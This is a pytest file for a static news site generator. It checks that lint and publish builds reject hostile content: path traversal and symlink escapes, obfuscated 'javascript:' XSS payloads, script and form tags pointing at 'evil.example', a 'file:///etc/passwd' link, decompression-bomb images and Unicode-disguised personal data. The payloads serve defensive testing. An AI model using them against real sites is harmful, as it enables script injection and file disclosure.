"""Hostile input (issues #11 and #18): content, files, settings and the environment are all input.

One builder per attack. Each refused attack is a test of its own: lint names it
as FILE:LINE, the publish build refuses it with the same FILE:LINE and exit
code 1 and no traceback, the previous OUT is byte-identical, and no file outside
OUT and the cache was created, changed or removed (the sibling folder
`somewhere/`, which attacks aim at, and the content itself are hashed before and
after). Attacks the site must publish safely are built once together and read
by one test each. The workspace is described in tests/hostile_fixtures.py.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from lxml import etree
from PIL import Image

from conftest import EPOCH, PNG_SMALL, PUBLISHCONF, ROOT, basic_site, image_bytes, run_pelican, write_files
from hostile_fixtures import (
    MARK,
    META,
    PELICANCONF,
    Attack,
    Workspace,
    body_line,
    error_lines,
    gif_header_only,
    gif_of_many_frames,
    gif_with_comments,
    has,
    image_colour,
    jpeg_with_metadata,
    lint_cli,
    lint_problems,
    make_workspace,
    pelican,
    pelican_in_process,
    png_header_only,
    png_with_text,
    snapshot,
    staging_left,
    story,
    tree,
    warning_lines,
    webp_with_metadata,
)
from openbeat.config import site_settings
from openbeat.images import ImageProblem, inspect
from openbeat.reading import PostReader

# --- the previous output every refused build must leave as it was -------------------------------


@pytest.fixture(scope="session")
def previous_out(tmp_path_factory) -> Path:
    """A real output of the basic site: each test copies it as the OUT a refused build must keep."""
    root = tmp_path_factory.mktemp("previous")
    result = run_pelican(write_files(root / "content", basic_site()), root / "out")
    assert result.returncode == 0, result.stderr
    return root / "out"


# --- attacks that lint and the publish build refuse ----------------------------------------------

ATTACKS: dict[str, Callable[[Workspace], Attack]] = {}


def attack(name: str) -> Callable[[Callable[[Workspace], Attack]], Callable[[Workspace], Attack]]:
    def register(builder: Callable[[Workspace], Attack]) -> Callable[[Workspace], Attack]:
        ATTACKS[name] = builder
        return builder
    return register


OUTSIDE = "leads outside the content folder"
LINK_OUT = "is a link to a file outside the content folder"


# Containment (#11): a path content names never reads or writes outside the content folder.

@attack("containment/image-header-dotdot")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(header="Image: ../../../somewhere/x.jpg\nImage-Alt: A photo")},
                  (("stories/leak.md", 3, OUTSIDE),))


@attack("containment/image-header-absolute")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(header=f"Image: {ws.somewhere}/x.jpg\nImage-Alt: A photo")},
                  (("stories/leak.md", 3, "does not exist"),))


@attack("containment/image-header-encoded-dotdot")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(header="Image: images/%2e%2e/%2E%2E/%2e%2e/somewhere/x.jpg\n"
                                                   "Image-Alt: A photo")},
                  (("stories/leak.md", 3, OUTSIDE),))


@attack("containment/image-header-backslash")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(header="Image: ..\\..\\..\\somewhere\\x.jpg\nImage-Alt: A photo")},
                  (("stories/leak.md", 3, "backslash"),))


@attack("containment/image-header-file-url")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(header=f"Image: file://{ws.somewhere}/x.jpg\nImage-Alt: A photo")},
                  (("stories/leak.md", 3, "is on another site"),))


@attack("containment/markdown-image-dotdot")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(body="See.\n\n![A photo](../../../somewhere/photo.jpg)")},
                  (("stories/leak.md", 6, OUTSIDE),))


@attack("containment/markdown-reference-image-dotdot")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(body="See.\n\n![A photo][p]\n\n[p]: ../../../somewhere/photo.jpg")},
                  (("stories/leak.md", 6, OUTSIDE),))


@attack("containment/html-image-dotdot")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(body='<img src=../../../somewhere/photo.jpg alt="A photo">')},
                  (("stories/leak.md", 4, OUTSIDE),))


@attack("containment/image-symlinked-out")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(header="Image: images/x.jpg\nImage-Alt: A photo")},
                  (("images/x.jpg", 1, LINK_OUT), ("stories/leak.md", 3, "is a link that leads outside")),
                  links={"images/x.jpg": "{somewhere}/x.jpg"})


@attack("containment/unused-image-symlinked-out")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("images/x.jpg", 1, LINK_OUT),), links={"images/x.jpg": "{somewhere}/x.jpg"})


@attack("containment/file-symlinked-out")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("files/report.pdf", 1, LINK_OUT),), links={"files/report.pdf": "{somewhere}/secret.csv"})


@attack("containment/csv-symlinked-out")
def _(ws: Workspace) -> Attack:
    return Attack({"data/stats.md": "Title: Stats\nDate: 2026-01-01\nSource: Records\n\nThe numbers.\n"},
                  (("data/stats.csv", 1, LINK_OUT), ("data/stats.md", 1, "is a link that leads outside")),
                  links={"data/stats.csv": "{somewhere}/secret.csv"})


@attack("containment/post-symlinked-out")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("stories/leak.md", 1, LINK_OUT),), links={"stories/leak.md": "{somewhere}/post.md"})


@attack("containment/post-symlinked-to-a-device")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("stories/zero.md", 1, LINK_OUT),), links={"stories/zero.md": "/dev/zero"})


@attack("containment/folder-symlinked-out")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("stories/more", 1, "is a link to a folder"),), links={"stories/more": "{somewhere}/notes"})


@attack("containment/folder-symlinked-inside")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("stories/policies", 1, "is a link to a folder"),), links={"stories/policies": "../policies"})


for _prefix, _name in (("{static}", "static"), ("{attach}", "attach"), ("{filename}", "filename"),
                       ("|static|", "bar-static")):
    def _link(ws: Workspace, prefix: str = _prefix) -> Attack:
        return Attack({"stories/leak.md": story(body=f"The [report]({prefix}../../../somewhere/secret.csv).")},
                      (("stories/leak.md", 4, OUTSIDE),))
    attack(f"containment/{_name}-link-dotdot")(_link)


@attack("containment/static-link-absolute-dotdot")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(body="The [report]({static}/../somewhere/secret.csv).")},
                  (("stories/leak.md", 4, OUTSIDE),))


@attack("containment/static-link-in-raw-html")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/leak.md": story(body='<a href="{static}../../../somewhere/secret.csv">report</a>')},
                  (("stories/leak.md", 4, OUTSIDE),))


# Slugs (#11): a slug is a name, never a path.

for _slug, _name in (("../policies", "dotdot"), (".", "dot"), ("..", "parent"), ("/etc", "absolute"),
                     ("a/b", "slash"), ("Bike-Unit", "upper-case"), ("café", "unicode"), ("bike unit", "space"),
                     ("bike_unit", "underscore")):
    def _slug_attack(ws: Workspace, slug: str = _slug) -> Attack:
        return Attack({"stories/slugged.md": story(header=f"Slug: {slug}")},
                      (("stories/slugged.md", 3, "is not a slug"),))
    attack(f"slug/{_name}")(_slug_attack)


@attack("slug/reserved-name-of-the-site")
def _(ws: Workspace) -> Attack:
    return Attack({"pages/feeds.md": "Title: Feeds\n\nOur feeds.\n", "pages/cards.md": "Title: C\nSlug: cards\n\nC.\n"},
                  (("pages/feeds.md", 1, "is a page the site makes itself"),
                   ("pages/cards.md", 2, "is a page the site makes itself")))


@attack("slug/file-name-without-letters")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/___.md": story()}, (("stories/___.md", 1, "makes no usable URL"),))


@attack("slug/language-as-path")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/lang.md": story(header="Lang: ../../somewhere")},
                  (("stories/lang.md", 3, 'Lang "../../somewhere" is not one of'),))


@attack("slug/officers-as-path")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/refs.md": story(header="Officers: ../x, ../../somewhere/post")},
                  (("stories/refs.md", 3, 'Officers names "../x"'),
                   ("stories/refs.md", 3, 'Officers names "../../somewhere/post"')))


# Keys that hold a web address or a phone number: only what they name is allowed.

@attack("keys/video-with-a-javascript-url")
def _(ws: Workspace) -> Attack:
    return Attack({"news/video.md": "Title: V\nDate: 2026-01-01\nVideo: javascript:alert(1)\n\nText.\n"},
                  (("news/video.md", 3, "is not the address of a YouTube or Vimeo video"),))


@attack("keys/video-on-a-look-alike-host")
def _(ws: Workspace) -> Attack:
    return Attack({"news/video.md": "Title: V\nDate: 2026-01-01\nVideo: https://youtube.com.evil.example/watch?v=x\n\nT.\n"},
                  (("news/video.md", 3, "is not the address of a YouTube or Vimeo video"),))


@attack("keys/tip-url-with-a-javascript-url")
def _(ws: Workspace) -> Attack:
    return Attack({"appeals/tip.md": "Title: A\nDate: 2026-01-01\nKind: missing\nCase: 26-000001\n"
                                     "Tip-Url: javascript:alert(1)\n\nText.\n"},
                  (("appeals/tip.md", 5, "is not a web address"),))


for _phone, _name in (("911", "911"), ("+1 911", "911-with-a-country-code")):
    def _tip_phone(ws: Workspace, phone: str = _phone) -> Attack:
        return Attack({"appeals/tip.md": "Title: A\nDate: 2026-01-01\nKind: missing\nCase: 26-000001\n"
                                         f"Tip-Phone: {phone}\n\nText.\n"},
                      (("appeals/tip.md", 5, "is the emergency number"),))
    attack(f"keys/tip-phone-{_name}")(_tip_phone)


# Other formats, hidden and odd files (#11, #18): every file is a post, a static file, or an error.

@attack("files/html-in-a-type-folder")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/evil.html": "<script>alert(1)</script>"}, (("stories/evil.html", 1, "only Markdown"),))


@attack("files/rst-in-a-type-folder")
def _(ws: Workspace) -> Attack:
    return Attack({"policies/evil.rst": "Evil\n====\n\n.. raw:: html\n\n   <script></script>\n"},
                  (("policies/evil.rst", 1, "only Markdown"),))


@attack("files/markdown-extension")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/x.markdown": story()}, (("stories/x.markdown", 1, "only Markdown"),))


@attack("files/upper-case-md")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/x.MD": story()}, (("stories/x.MD", 1, "rename it to end in .md"),))


@attack("files/hidden-post")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/.x.md": story()}, (("stories/.x.md", 1, "is hidden"),))


@attack("files/hidden-folder-in-a-type-folder")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/.drafts/x.md": story()}, (("stories/.drafts/x.md", 1, "is hidden"),))


@attack("files/hidden-folder-at-the-root")
def _(ws: Workspace) -> Attack:
    return Attack({".hidden/x.md": story()}, ((".hidden/x.md", 1, "is hidden"),))


@attack("files/hidden-image")
def _(ws: Workspace) -> Attack:
    return Attack({"images/.x.png": PNG_SMALL}, (("images/.x.png", 1, "is hidden"),))


@attack("files/post-at-the-root")
def _(ws: Workspace) -> Attack:
    return Attack({"x.md": story()}, (("x.md", 1, "is not in a content folder"),))


@attack("files/editor-backup")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/x.md~": story()}, (("stories/x.md~", 1, "is not a post"),))


@attack("files/no-extension")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/README": "Read me.\n"}, (("stories/README", 1, "is not a post"),))


@attack("files/html-in-files")
def _(ws: Workspace) -> Attack:
    return Attack({"files/page.html": "<script>alert(1)</script>", "files/page.HTM": "<p>x</p>"},
                  (("files/page.html", 1, "a browser would run"), ("files/page.HTM", 1, "a browser would run")))


@attack("files/svg-in-files-and-images")
def _(ws: Workspace) -> Attack:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    return Attack({"files/logo.svg": svg, "images/logo.SVG": svg},
                  (("files/logo.svg", 1, "a browser would run"), ("images/logo.SVG", 1, "a browser would run")))


@attack("files/post-is-a-fifo")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("stories/pipe.md", 1, "is not a plain file (a pipe, a device or a socket)"),), special={"stories/pipe.md": "fifo"})


@attack("files/post-is-a-device")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("stories/zero.md", 1, "is not a plain file"),), special={"stories/zero.md": "device"})


@attack("files/image-is-a-socket")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("images/x.png", 1, "is not a plain file"),), special={"images/x.png": "socket"})


@attack("files/symlink-loop")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("stories/loop.md", 1, "cannot be opened (too many levels of symbolic links)"),), links={"stories/loop.md": "loop.md"})


@attack("files/folder-symlink-loop")
def _(ws: Workspace) -> Attack:
    return Attack(errors=(("stories/again", 1, "is a link to a folder"),), links={"stories/again": "."})


@attack("files/image-of-files-that-is-not-an-image")
def _(ws: Workspace) -> Attack:
    return Attack({"files/photo.jpg": b"<html><script>alert(1)</script></html>"},
                  (("files/photo.jpg", 1, "cannot be read as an image"),))


@attack("files/image-of-files-over-the-pixel-limit")
def _(ws: Workspace) -> Attack:
    return Attack({"files/huge.png": png_header_only(20000, 20000)}, (("files/huge.png", 1, "over the limit"),))


@attack("files/animation-of-files-over-the-pixel-limit-in-all")
def _(ws: Workspace) -> Attack:
    return Attack({"files/moving.gif": gif_of_many_frames(2000, 2000, 20)},
                  (("files/moving.gif", 1, "is an animation of 20 frames of 2000x2000 pixels"),))


# Images (#11, #18): the site's own pixel limit, read from the header.

@attack("images/decompression-bomb-png")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/bomb.md": story(header="Image: images/bomb.png\nImage-Alt: A photo"),
                   "images/bomb.png": png_header_only(10000, 8000)},
                  (("stories/bomb.md", 3, "10000x8000 pixels, over the limit of 50,000,000"),))


@attack("images/decompression-bomb-gif")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/bomb.md": story(body="![A photo](/images/bomb.gif)"),
                   "images/bomb.gif": gif_header_only(65535, 65535)},
                  (("stories/bomb.md", 4, "far over the limit"),))


@attack("images/data-url-image")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/data.md": story(body="![A dot](data:image/png;base64,iVBORw0KGgo=)")},
                  (("stories/data.md", 4, "is on another site"),))


# Header hygiene (#11): a clear FILE:LINE, never a traceback and never a split header.

@attack("header/invalid-utf-8")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/bytes.md": b"Title: Bytes\nDate: 2026-01-01\nSummary: caf\xe9\n\nText.\n"},
                  (("stories/bytes.md", 3, "is not UTF-8"),))


@attack("header/nul-byte")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/nul.md": "Title: Nul\nDate: 2026-01-01\nStatus: pub\x00lished\n\nText.\n"},
                  (("stories/nul.md", 3, "NUL character"),))


for _char in ("\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"):
    def _separator(ws: Workspace, char: str = _char) -> Attack:
        # Python's splitlines() (and some editors) break here: "Status: draft" would become a header line.
        return Attack({"stories/split.md": f"Title: Split{char}Status: draft\nDate: 2026-01-01\n\nText.\n"},
                      (("stories/split.md", 1, f"U+{ord(char):04X}"),))
    attack(f"header/line-separator-U+{ord(_char):04X}")(_separator)


@attack("header/tab-before-a-key")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/tab.md": "Title: Tab\nDate: 2026-01-01\n\tStatus: draft\n\nText.\n"},
                  (("stories/tab.md", 3, "starts with a tab"),))


@attack("header/duplicate-key-hides-a-value")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/twice.md": "Title: Twice\nStatus: published\nDate: 2026-01-01\nstatus: draft\n\nText.\n"},
                  (("stories/twice.md", 4, "is given twice (first on line 2)"),))


@attack("header/invisible-character-in-a-value")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/hidden.md": story(header="Status: dr\u200baft")},
                  (("stories/hidden.md", 3, "Status"),))


@attack("header/title-of-10000-characters")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/long.md": story(title="A" * 10_000)},
                  (("stories/long.md", 1, "Title is 10,000 characters long"),))


@attack("header/post-over-content-max-bytes")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/big.md": story(body=("Words words words.\n\n" * 60_000))},
                  (("stories/big.md", 1, "over the limit of 1,000,000 bytes"),))


@attack("header/template-naming-a-path")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/template.md": story(header="Template: ../../../somewhere/pwned")},
                  (("stories/template.md", 3, "Template is not a key"),))


# Pathological text (#18): a depth and line limit with FILE:LINE, so nothing stalls or crashes.

@attack("text/line-of-150-kb")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/line.md": story(body="word " * 30_000)}, (("stories/line.md", 4, "150,000 characters long"),))


@attack("text/thousands-of-nested-quotes")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/quotes.md": story(body="Intro.\n\n" + ">" * 5000 + " deep")},
                  (("stories/quotes.md", 6, "nests quotes or lists"),))


@attack("text/thousands-of-nested-lists-by-indent")
def _(ws: Workspace) -> Attack:
    lines = "\n".join("    " * depth + "- item" for depth in range(300))
    return Attack({"stories/lists.md": story(body=lines)}, (("stories/lists.md", 16, "nests quotes or lists"),))


@attack("text/thousands-of-nested-lists-on-one-line")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/lists.md": story(body="- " * 3000 + "deep")}, (("stories/lists.md", 4, "nests quotes or lists"),))


@attack("text/nested-numbered-lists-and-quotes-on-one-line")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/lists.md": story(body="Intro.\n\n" + "1. > " * 2000 + "deep")},
                  (("stories/lists.md", 6, "nests quotes or lists"),))


@attack("text/thousands-of-nested-html-elements")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/html.md": story(body="<div>\n" * 100_000)}, (("stories/html.md", 16, "nests HTML elements 13 deep"),))


@attack("text/definition-lists-deep-enough-to-exhaust-the-stack")
def _(ws: Workspace) -> Attack:
    # Every line passes the depth limit; Python-Markdown still recurses once per item: the reader's
    # own limit names the file.
    body = "".join("    " * min(i, 11) + "term\n" + "    " * min(i, 11) + ": definition\n" for i in range(1000))
    return Attack({"stories/deflist.md": story(body=body)}, (("stories/deflist.md", 4, "too deeply to be read"),))


# Data sets (#11): cell by cell, the CSV's own row as LINE.

def dataset(csv_text: str | bytes, header: str = "") -> dict[str, str | bytes]:
    return {"data/stats.md": f"Title: Stats\nDate: 2026-01-01\nSource: Records\n{header}\nThe numbers.\n",
            "data/stats.csv": csv_text}


@attack("data/ssn-in-a-cell")
def _(ws: Workspace) -> Attack:
    return Attack(dataset("month,count,note\n2026-01,4,none\n2026-02,5,ssn 123-45-6789\n"),
                  (("data/stats.csv", 3, "looks like a Social Security number"),))


@attack("data/phone-in-the-header-row")
def _(ws: Workspace) -> Attack:
    return Attack(dataset("month,call (217) 555-0199\n2026-01,4\n"), (("data/stats.csv", 1, "is a phone number"),))


@attack("data/personal-data-after-blank-and-multi-line-rows")
def _(ws: Workspace) -> Attack:
    return Attack(dataset('month,note\n\n2026-01,"two\nlines"\n2026-02,DOB 04/12/1986\n'),
                  (("data/stats.csv", 4, "is a date of birth"),))


@attack("data/csv-not-utf-8")
def _(ws: Workspace) -> Attack:
    return Attack(dataset("month,caf\xe9\n2026-01,4\n".encode("latin-1")), (("data/stats.csv", 1, "is not UTF-8"),))


@attack("data/csv-is-a-fifo")
def _(ws: Workspace) -> Attack:
    return Attack({"data/stats.md": dataset("")["data/stats.md"]}, (("data/stats.md", 1, "is not a file"), ("data/stats.csv", 1, "is not a plain file")),
                  special={"data/stats.csv": "fifo"})


@attack("data/csv-field-over-the-limit")
def _(ws: Workspace) -> Attack:
    return Attack(dataset("month,note\n2026-01," + "x" * 200_000 + "\n"), (("data/stats.csv", 1, "cannot be read as CSV"),))


# Personal data written with Unicode tricks (#18): caught like the plain forms.

for _text, _name in (("123\u201045\u20106789", "unicode-hyphens"), ("123\u201345\u20136789", "en-dashes"),
                     ("123\u221245\u22126789", "minus-signs"), ("123\u00a045\u00a06789", "no-break-spaces"),
                     ("123\u200945\u20096789", "thin-spaces"), ("\uff11\uff12\uff13-\uff14\uff15-\uff16\uff17\uff18\uff19",
                                                                "full-width-digits"),
                     ("12\u200d3-4\u200b5-67\u20608\ufeff9", "zero-width-joiners"),
                     ("123\u200e-45\u202e-6789", "bidi-controls"), ("1\u030223-45-6789", "combining-marks"),
                     ("\U0001d7cf\U0001d7d0\U0001d7d1-45-6789", "mathematical-digits"),
                     ("\u0661\u0662\u0663-\u0664\u0665-\u0666\u0667\u0668\u0669", "arabic-indic-digits")):
    def _ssn(ws: Workspace, text: str = _text) -> Attack:
        return Attack({"stories/ssn.md": story(body=f"His number is {text}, the report says.")},
                      (("stories/ssn.md", 4, "looks like a Social Security number"),))
    attack(f"personal/ssn-with-{_name}")(_ssn)


@attack("personal/phone-with-unicode-separators")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/phone.md": story(body="Call her at (217)\u00a0555\u20110199.")},
                  (("stories/phone.md", 4, "is a phone number"),))


@attack("personal/date-of-birth-in-full-width-digits")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/dob.md": story(body="The man, DOB \uff10\uff14/\uff11\uff12/\uff11\uff19\uff18\uff16, was found.")},
                  (("stories/dob.md", 4, "is a date of birth"),))


@attack("personal/ssn-in-a-header-value")
def _(ws: Workspace) -> Attack:
    return Attack({"stories/ssn.md": story(header="Teaser: The man (123\u201345\u20136789) was found.")},
                  (("stories/ssn.md", 3, "looks like a Social Security number"),))


@attack("personal/ssn-in-a-csv-with-unicode-dashes")
def _(ws: Workspace) -> Attack:
    return Attack(dataset("month,note\n2026-01,123\u201445\u20146789\n"),
                  (("data/stats.csv", 2, "looks like a Social Security number"),))


@pytest.mark.build
@pytest.mark.parametrize("name", ATTACKS, ids=list(ATTACKS))
def test_lint_and_publish_build_refuse_it_and_touch_nothing(tmp_path, previous_out, name):
    ws = make_workspace(tmp_path, previous_out)
    case = ATTACKS[name](ws)
    case.apply(ws)
    out_before, around_before = tree(ws.out), snapshot(ws.root, skip=(ws.out, ws.cache))

    problems = lint_problems(ws.content)
    lint_errors = {str(p) for p in problems if p.level == "error"}
    for path, line, fragment in case.errors:
        assert has(problems, path, line, fragment), f"lint: no {path}:{line} ...{fragment}... in\n" + "\n".join(lint_errors)

    result = pelican_in_process(ws.content, ws.out)  # the command line itself: test_the_command_line_*
    log = result.stdout + result.stderr
    assert result.returncode == 1, log
    assert "Traceback" not in log
    build_errors = error_lines(result.stderr)
    for path, line, fragment in case.errors:
        assert has(build_errors, path, line, fragment), f"build: no {path}:{line} ...{fragment}... in\n{result.stderr}"
    assert build_errors <= lint_errors, "the build reports errors lint does not"

    assert tree(ws.out) == out_before
    assert snapshot(ws.root, skip=(ws.out, ws.cache)) == around_before
    assert staging_left(ws) == []


# --- HTML outside the allowlist (#11): an error in lint and the publish build, dropped by a preview -------

TAG, ATTRIBUTE, JAVASCRIPT = "is not allowed in a post", "the attribute {}= is not allowed", 'uses "javascript:"'
# name -> (the body after a first paragraph, which line of it holds the attack, a fragment of the message)
HTML_ATTACKS: dict[str, tuple[str, int, str]] = {
    "script": ("<script>alert(1)</script>", 0, "<script> " + TAG),
    "script-upper-case": ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", 0, "<script> " + TAG),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', 0, "<iframe> " + TAG),
    "object": ('<object data="https://evil.example/x.swf"></object>', 0, "<object> " + TAG),
    "embed": ('<embed src="https://evil.example/x.swf">', 0, "<embed> " + TAG),
    "form": ('<form action="https://evil.example/"><input name="ssn"></form>', 0, "<form> " + TAG),
    "style": ("<style>main { display: none }</style>", 0, "<style> " + TAG),
    "svg-onload": ('<svg onload="alert(1)"><circle r="9"/></svg>', 0, "<svg> " + TAG),
    "math": ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 0, "<math> " + TAG),
    "base": ('<base href="https://evil.example/">', 0, "<base> " + TAG),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', 0, "<meta> " + TAG),
    "template-hiding-a-script": ("<template><script>alert(1)</script></template>", 0, "<template> " + TAG),
    "onclick": ('<p onclick="alert(1)">Click me</p>', 0, ATTRIBUTE.format("onclick")),
    "onerror-on-an-image": ('<img src="/images/bike.png" alt="A bike" onerror="alert(1)">', 0,
                            ATTRIBUTE.format("onerror")),
    "onmouseover-upper-case": ('<SPAN ONMOUSEOVER="alert(1)">Hover</SPAN>', 0, ATTRIBUTE.format("onmouseover")),
    "ontoggle-on-details": ('<details open ontoggle="alert(1)"><summary>More</summary>x</details>', 0,
                            ATTRIBUTE.format("ontoggle")),
    "srcset-on-an-image": ('<img src="/images/bike.png" alt="A bike" srcset="https://evil.example/x.jpg 2x">', 0,
                           ATTRIBUTE.format("srcset")),
    "attribute-list-onclick": ('Click this paragraph.\n{: onclick="alert(1)" }', 1, ATTRIBUTE.format("onclick")),
    "attribute-list-on-a-heading": ("## Heading {: onmouseover=alert(1) }", 0, ATTRIBUTE.format("onmouseover")),
    "attribute-list-style": ('Styled.\n{: style="background: url(javascript:alert(1))" }', 1, ATTRIBUTE.format("style")),
    "class-of-the-site": ('<div class="ob-banner ob-banner--urgent">Fake urgent alert</div>', 0,
                          'class="ob-banner" is not allowed'),
    "id-of-the-page": ('<span id="main">Hijack</span>', 0, ATTRIBUTE.format("id")),
    "markdown-javascript-link": ("[Click](javascript:alert(1))", 0, JAVASCRIPT),
    "markdown-reference-javascript-link": ("[Click][1]\n\n[1]: javascript:alert(1)", 2, JAVASCRIPT),
    "raw-javascript-link": ('<a href="javascript:alert(1)">Click</a>', 0, JAVASCRIPT),
    "mixed-case-scheme": ('<a href="JaVaScRiPt:alert(1)">Click</a>', 0, JAVASCRIPT),
    "leading-space-and-control": ('<a href=" \x01javascript:alert(1)">Click</a>', 0, JAVASCRIPT),
    "entity-decimal": ('<a href="&#106;avascript:alert(1)">Click</a>', 0, JAVASCRIPT),
    "entity-hex-inside": ('<a href="jav&#x61;script:alert(1)">Click</a>', 0, JAVASCRIPT),
    "entity-without-semicolons": ('<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">Click</a>',
                                  0, JAVASCRIPT),
    "entity-tab-inside": ('<a href="java&#x09;script:alert(1)">Click</a>', 0, JAVASCRIPT),
    "entity-named-newline-and-colon": ('<a href="java&NewLine;script&colon;alert(1)">Click</a>', 0, JAVASCRIPT),
    "entity-in-a-markdown-link": ("[Click](jav&#x61;script:alert(1))", 0, JAVASCRIPT),
    "vbscript": ('<a href="vbscript:msgbox(1)">Click</a>', 0, 'uses "vbscript:"'),
    "data-url-link": ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Click</a>', 0,
                      'uses "data:"'),
    "data-url-markdown-link": ("[Click](data:text/html,<script>alert(1)</script>)", 0, 'uses "data:"'),
    "file-url": ("[The password file](file:///etc/passwd)", 0, 'uses "file:"'),
    "autolink-javascript": ("<javascript:alert(1)>", 0, TAG),
}


def html_post(name: str) -> str:
    return story(title=f"HTML {name}", body="A first paragraph.\n\n" + HTML_ATTACKS[name][0])


def html_line(name: str) -> int:
    return body_line() + 2 + HTML_ATTACKS[name][1]


@pytest.fixture(scope="module")
def html_builds(tmp_path_factory, previous_out) -> dict:
    """Every HTML attack in its own post of one folder: lint once, a publish build, a preview build."""
    ws = make_workspace(tmp_path_factory.mktemp("html"), previous_out,
                        {f"stories/html-{name}.md": html_post(name) for name in HTML_ATTACKS})
    out_before, around_before = tree(ws.out), snapshot(ws.root, skip=(ws.out, ws.cache))
    publish = pelican(ws.content, ws.out)
    found = {
        "lint": lint_problems(ws.content),
        "publish": publish,
        "out_kept": tree(ws.out) == out_before,
        "around_kept": snapshot(ws.root, skip=(ws.out, ws.cache)) == around_before,
        "staging": staging_left(ws),
    }
    preview_out = ws.root / "preview"
    found["preview"] = pelican(ws.content, preview_out, PELICANCONF)
    found["preview_out"] = preview_out
    return found


@pytest.mark.build
def test_publish_build_with_html_outside_the_allowlist_fails_and_keeps_everything(html_builds):
    publish = html_builds["publish"]
    assert publish.returncode == 1, publish.stdout + publish.stderr
    assert "Traceback" not in publish.stdout + publish.stderr
    assert html_builds["out_kept"] and html_builds["around_kept"] and html_builds["staging"] == []


@pytest.mark.build
@pytest.mark.parametrize("name", HTML_ATTACKS, ids=list(HTML_ATTACKS))
def test_html_outside_the_allowlist_is_an_error_in_lint_and_publish(html_builds, name):
    path, line, fragment = f"stories/html-{name}.md", html_line(name), HTML_ATTACKS[name][2]
    assert has(html_builds["lint"], path, line, fragment), [str(p) for p in html_builds["lint"] if p.path == path]
    assert has(error_lines(html_builds["publish"].stderr), path, line, fragment), html_builds["publish"].stderr
    lint_here = {str(p) for p in html_builds["lint"] if p.path == path and p.level == "error"}
    build_here = {e for e in error_lines(html_builds["publish"].stderr) if e.startswith(path + ":")}
    assert lint_here == build_here


UNSAFE_URL_RE = r"^(javascript|vbscript|data|file):"


def unsafe_in(body: BeautifulSoup) -> list[str]:
    """What in a post's body could run, load from elsewhere or pass for the site's own parts."""
    found = []
    for node in body.find_all(True):
        if node.name in ("script", "iframe", "object", "embed", "form", "style", "svg", "math", "base", "meta",
                         "link", "template", "input"):
            found.append(node.name)
        for attribute, value in node.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            if attribute.startswith("on") or attribute in ("style", "srcset", "srcdoc"):
                if not (attribute == "srcset" and node.name in ("img", "source") and "evil" not in text):
                    found.append(f"{node.name}[{attribute}]")
            compact = "".join(ch for ch in text if ord(ch) > 32).lower()
            if attribute in ("href", "src", "cite", "action", "formaction", "xlink:href") and \
                    compact.startswith(("javascript:", "vbscript:", "data:", "file:")):
                found.append(f"{node.name}[{attribute}={text[:30]}]")
            if attribute == "class" and "ob-banner" in value:
                found.append(f"{node.name}.{text}")
            if attribute == "id" and text == "main":
                found.append("id=main")
    return found


@pytest.mark.build
@pytest.mark.parametrize("name", HTML_ATTACKS, ids=list(HTML_ATTACKS))
